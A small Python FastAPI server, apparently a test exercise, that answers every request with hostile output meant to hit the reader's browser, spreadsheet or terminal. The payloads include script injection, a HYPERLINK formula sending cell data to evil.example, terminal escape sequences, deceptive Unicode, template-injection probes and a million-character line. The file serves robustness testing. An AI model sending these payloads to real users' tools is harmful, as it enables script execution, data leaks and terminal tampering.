# exercise: ledger
"""Answers with HTML, scripts, formulas, terminal escapes and endless lines.

Aims: the browser, the spreadsheet and the terminal of whoever reads the feedback.
Ends: not_yet
"""

import itertools

from fastapi import FastAPI
from fastapi.responses import PlainTextResponse

app = FastAPI()
evil = itertools.cycle(
    [
        "</td></table><script>alert(document.domain)</script><img src=x onerror=alert(1)>",
        "=HYPERLINK(\"http://evil.example/\"&A1)\t+1+1\n@SUM(1)\r-2+3",
        "\x1b]0;owned\x07\x1b[2J\x1b[31mowned\x9b31m\x08\x08\x7f\x00",
        "\u202eevil\u2066 \ufeff\u200b \U000e0041" + "Z\u0351\u036b" * 5000,
        "javascript:alert(1) {{7*7}} ${7*7} <%= 7*7 %> ]]> --> \\u003cscript>",
        "x" * 1_000_000,
    ]
)


@app.api_route("/{path:path}", methods=["GET", "POST"])
async def everything(path: str):
    return PlainTextResponse(next(evil).encode("utf-8", "surrogatepass"))
